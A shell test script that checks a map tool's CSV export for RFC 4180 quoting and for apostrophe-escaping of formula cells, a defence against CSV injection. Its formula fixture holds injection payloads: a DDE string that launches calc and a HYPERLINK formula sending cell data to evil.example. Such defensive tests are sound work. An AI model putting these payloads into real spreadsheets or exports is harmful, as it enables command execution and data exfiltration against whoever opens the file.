#!/bin/sh
# export_csv.sh JMAP SOURCE_DIR - `jmap export --format csv` read back with
# python3's csv module: a header row, then one row per irritant whose fields
# (its owner, remedy and sources among them) equal the JSON export's, with RFC 4180 quoting (CRLF rows, quotes doubled)
# surviving commas, quotes and line breaks in the text, and fields that a
# spreadsheet would run as a formula (=, +, -, @, tab, CR first) prefixed
# with an apostrophe (OWASP's rule against CSV injection).
set -u
jmap=$1
src=$2
python=/usr/bin/python3
fail=0
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT

cat >"$tmp/quoting.yaml" <<'EOF'
jmap: 1
title: Quoting
departments: {d: "Care, \"VIP\" desk"}
stages:
  - id: s
    name: "Service, after sales"
    steps:
      - name: "Calls \"the\" hotline"
        irritants:
          - Waits
          - name: "Says \"no\", twice"
            severity: high
            frequency: 3
            owner: d
            remedy: "Line one\nline two\r\nline three"
EOF

cat >"$tmp/formula.yaml" <<'EOF'
jmap: 1
title: Formulas
departments: {d: "=cmd|' /C calc'!A0"}
stages:
  - id: s
    name: "+33 hotline"
    steps:
      - name: "@SUM(A1:A9)"
        irritants:
          - name: '=HYPERLINK("http://evil.example/?"&A1, "Click")'
            owner: d
            remedy: "-20 % on the next order"
          - name: "\tTabbed"
            remedy: "\rReturn"
          - name: "A plain one, = inside"
            remedy: "Fine - really"
EOF

for map in "$src"/maps/*.yaml "$src"/tests/content/every_key.yaml "$tmp/quoting.yaml" \
    "$tmp/formula.yaml"; do
    if ! "$jmap" export --format csv "$map" >"$tmp/out.csv" 2>"$tmp/err" ||
        ! "$jmap" export --format json "$map" >"$tmp/out.json" 2>>"$tmp/err"; then
        echo "FAIL: export $map"
        cat "$tmp/err"
        fail=1
        continue
    fi
    "$python" - "$tmp/out.csv" "$tmp/out.json" "$map" <<'EOF' || fail=1
import csv, json, sys
name = sys.argv[3]
raw = open(sys.argv[1], "rb").read()
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True))
graph = json.load(open(sys.argv[2], encoding="utf-8"))
ok = True
def expect(cond, what):
    global ok
    if not cond:
        print("FAIL: %s: %s" % (name, what))
        ok = False
expect(rows[0] == ["stage", "step", "irritant", "severity", "frequency", "owner", "remedy",
                   "sources"], "header row")
stages = {s["id"]: s["name"] for s in graph["stages"]}
departments = {d["id"]: d["name"] for d in graph["departments"]}
def cell(v):
    return "'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v
want = []
for s in graph["steps"]:
    for ir in s["irritants"]:
        want.append([cell(v) for v in (
            stages[s["stage"]], s["name"], ir["name"], ir["severity"],
            "" if ir["frequency"] is None else str(ir["frequency"]),
            departments.get(ir["owner"], ir["owner"] or ""), ir["remedy"] or "",
            " ".join(ir["sources"]))])
if name.endswith("every_key.yaml"):
    expect(rows[1][7] == "survey support-tickets" and rows[4][7] ==
           "mystery-visit staff-report observation", "sources, in their order: %s" % rows)
    expect(rows[3][7] == "", "no sources, an empty field")
if name.endswith("formula.yaml"):
    expect(sum(c.startswith("'") for r in rows for c in r) == 11, "eleven neutralised cells")
expect(rows[1:] == want, "rows differ from the JSON export:\n%s\n%s" % (rows[1:], want))
expect(all(len(r) == 8 for r in rows), "eight fields per row")
# Every record ends with CRLF (RFC 4180); bare line breaks only inside quotes.
expect(raw.endswith(b"\r\n"), "the last record ends with CRLF")
expect(raw.count(b"\r\n") >= len(rows), "records end with CRLF")
sys.exit(0 if ok else 1)
EOF
done
exit $fail
